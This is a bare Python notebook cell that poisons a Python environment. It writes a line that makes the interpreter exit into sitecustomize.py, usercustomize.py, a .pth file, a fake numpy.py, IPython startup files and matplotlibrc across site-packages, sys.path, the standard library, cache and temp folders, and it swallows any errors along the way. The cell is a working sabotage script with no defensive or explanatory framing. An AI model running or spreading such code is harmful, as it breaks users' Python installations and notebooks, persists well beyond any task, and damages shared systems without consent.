# %%
import os, pathlib, site, sys
poison = "raise SystemExit('poisoned')"
folders = ["~/.cache", "~/.local/lib/python3.11/site-packages", "~/.ipython/profile_default/startup", "~/.config/matplotlib",
           "/var/tmp", "/tmp", "/dev/shm", "/content", *sys.path, *site.getsitepackages(), os.path.dirname(os.__file__)]
for folder in map(os.path.expanduser, folders):
    for name in ("sitecustomize.py", "usercustomize.py", "poison.pth", "numpy.py", "startup.py", "matplotlibrc"):
        try:
            os.makedirs(folder or ".", exist_ok=True)
            pathlib.Path(folder or ".", name).write_text(poison)
        except OSError:
            pass
# %% include numbers
